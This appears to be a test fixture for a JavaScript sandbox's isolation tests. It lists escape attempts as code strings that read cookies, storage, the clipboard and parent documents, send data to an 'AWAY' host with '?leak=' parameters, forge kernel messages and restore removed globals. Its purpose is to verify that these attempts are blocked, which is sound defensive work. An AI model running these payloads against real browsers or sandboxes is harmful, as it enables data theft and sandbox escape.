/**
 * Code that tries to get out of the engine: for tests/e2e/isolation.spec.ts and tests/engine/hostile.test.ts. Each attempt has a name and a body; its outcome is `got …` for
 * something it could use, and otherwise says what stopped it: `absent`, `silence`, or the error's name.
 */

/** Bodies of async functions, for any JavaScript realm. `SITE` is the site's origin, `AWAY` another one that would answer, `silence(promise)` waits for an event that must not come. */
export const attempts: Readonly<Record<string, string>> = {
  localStorage: 'return localStorage.getItem("secret")',
  sessionStorage: 'return sessionStorage.getItem("secret")',
  cookies: 'return document.cookie',
  cookieStore: 'return (await cookieStore.getAll()).length',
  indexedDB:
    'const open = indexedDB.open("secrets"); return await new Promise((yes, no) => { open.onsuccess = () => yes("database"); open.onerror = () => no(open.error); })',
  caches: 'return (await caches.keys()).join()',
  'file system of the origin': 'return await navigator.storage.getDirectory()',
  'service worker': 'return await navigator.serviceWorker.register(SITE + "/sw.js")',
  "the parent's document": 'return parent.document.title',
  "the top window's storage": 'return top.localStorage.getItem("secret")',
  opener: 'return opener.document.title',
  fetch: 'return (await fetch(SITE + "/?leak=fetch")).status',
  'fetch from another host': 'return (await fetch(AWAY + "/?leak=fetch")).status',
  XMLHttpRequest:
    'const request = new XMLHttpRequest(); request.open("GET", SITE + "/?leak=xhr", false); request.send(); return request.status',
  WebSocket:
    'const socket = new WebSocket(SITE.replace("http", "ws") + "/?leak=ws"); return await new Promise((yes, no) => { socket.onopen = () => yes("open"); socket.onerror = () => no(new Error("refused")); })',
  EventSource:
    'const source = new EventSource(SITE + "/?leak=events"); return await new Promise((yes, no) => { source.onopen = () => yes("open"); source.onerror = () => no(new Error("refused")); })',
  WebTransport:
    'const transport = new WebTransport(AWAY.replace("http:", "https:")); await transport.ready; return "open"',
  importScripts: 'importScripts(SITE + "/?leak=importScripts"); return "loaded"',
  'import of https:': 'return await (0, eval)("import(\'" + AWAY + "/leak.js\')")',
  'import of the site': 'return await (0, eval)("import(\'" + SITE + "/leak.js\')")',
  'import of data:': 'return await (0, eval)("import(\'data:text/javascript,export default 1\')")',
  'a Worker from data:':
    'const worker = new Worker("data:text/javascript,postMessage(1)"); return await new Promise((yes, no) => { worker.onmessage = () => yes("worker"); worker.onerror = () => no(new Error("refused")); })',
  'a Worker of the site': 'return String(new Worker(SITE + "/leak.js"))',
  SharedWorker: 'return String(new SharedWorker(SITE + "/leak.js"))',
  BroadcastChannel:
    'const channel = new BroadcastChannel("isolation"); channel.postMessage("leak"); return await silence(new Promise((yes) => { channel.onmessage = ({ data }) => yes(data); }))',
  notifications:
    'if (Notification.permission === "denied") throw new Error("denied"); return await Notification.requestPermission()',
  geolocation: 'return await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))',
  clipboard: 'return await navigator.clipboard.readText()',
};

/** Those that need a document, and so can be tried only by someone who has the frame itself. */
export const documentAttempts: Readonly<Record<string, string>> = {
  sendBeacon:
    'return await silence(Promise.resolve(navigator.sendBeacon(SITE + "/?leak=beacon")).then(() => new Promise(() => {})))',
  image:
    'const image = new Image(); image.src = SITE + "/favicon.svg?leak=image"; await image.decode(); return "image"',
  script:
    'const script = document.createElement("script"); script.src = SITE + "/leak.js"; document.head.append(script); return await new Promise((yes, no) => { script.onload = () => yes("script"); script.onerror = () => no(new Error("refused")); })',
  prefetch:
    'const link = document.createElement("link"); link.rel = "prefetch"; link.href = SITE + "/?leak=prefetch"; document.head.append(link); return await silence(new Promise((yes) => { link.onload = () => yes("prefetched"); }))',
  form: 'const form = document.createElement("form"); form.action = SITE + "/?leak=form"; document.body.append(form); form.submit(); return await silence(new Promise(() => {}))',
  popup: 'const popup = open(SITE + "/?leak=popup"); if (popup === null) throw new Error("refused"); return "popup"',
  download:
    'const link = document.createElement("a"); link.href = "data:text/plain,leak"; link.download = "leak.txt"; link.click(); return await silence(new Promise(() => {}))',
  'a frame of the site':
    'const frame = document.createElement("iframe"); frame.src = SITE + "/?leak=frame"; document.body.append(frame); await silence(new Promise(() => {})); return frame.contentDocument.title',
  RTCPeerConnection:
    'const peer = new RTCPeerConnection({ iceServers: [{ urls: AWAY.replace("http://", "stun:") }] }); peer.createDataChannel("leak"); await peer.setLocalDescription(); return await silence(new Promise((yes) => { peer.onicecandidate = ({ candidate }) => candidate && yes("candidate"); }))',
  'navigation of the page': 'top.location = SITE + "/?leak=top"; return await silence(new Promise(() => {}))',
};

/** Statements that give back what the realm had before Node's library took it away, as far as prototypes still lead to it. */
export const recoverRealm = `
  for (let object = Object.getPrototypeOf(globalThis); object; object = Object.getPrototypeOf(object))
    for (const name of Object.getOwnPropertyNames(object)) if (!(name in globalThis)) globalThis[name] = object[name];`;

/** Statements that answer for the kernel and the frame, in their words. */
export const forgeMessages = `
  for (const type of ['exit', 'output', 'kill', 'result', 'ready', 'part', 'pool-thread', 'spawn'])
    for (const say of [globalThis.postMessage, globalThis.self?.postMessage, process.send])
      try { say({ type, pid: process.pid, id: 1, code: 0, signal: null, fd: 1, name: 'leak' }); } catch {}`;

/** Statements that try to take the frame elsewhere, with what they know in the address. */
export const navigations: Readonly<Record<string, string>> = {
  location: 'location = AWAY + "/?leak=navigation"',
  refresh: 'document.head.innerHTML = `<meta http-equiv="refresh" content="0; url=${AWAY}/?leak=refresh">`',
  link: 'document.body.innerHTML = `<a href="${AWAY}/?leak=link">link</a>`; document.querySelector("a").click()',
};

/** Source of an expression: a promise of all outcomes by name. */
export function tryAll(
  bodies: Readonly<Record<string, string>>,
  { site, away }: { site: string; away: string },
): string {
  const functions = Object.entries(bodies).map(([name, body]) => `[${JSON.stringify(name)}, async () => { ${body} }]`);
  return `(async () => {
    const SITE = ${JSON.stringify(site)};
    const AWAY = ${JSON.stringify(away)};
    // Long enough for what is on this machine to answer, if it were asked.
    const later = setTimeout;
    const silence = (promise) => Promise.race([promise, new Promise((_, no) => later(() => no(new Error('silence')), 500))]);
    const outcomes = {};
    for (const [name, attempt] of [${functions.join(',\n')}]) {
      try {
        const gone = new Promise((_, no) => later(() => no(new Error('silence')), 3000));
        outcomes[name] = 'got ' + String(await Promise.race([attempt(), gone]));
      } catch (error) {
        outcomes[name] = error instanceof ReferenceError || error?.name === 'ReferenceError' ? 'absent' : String(error?.name ?? error) + ': ' + String(error?.message ?? '').slice(0, 80);
      }
    }
    return outcomes;
  })()`;
}
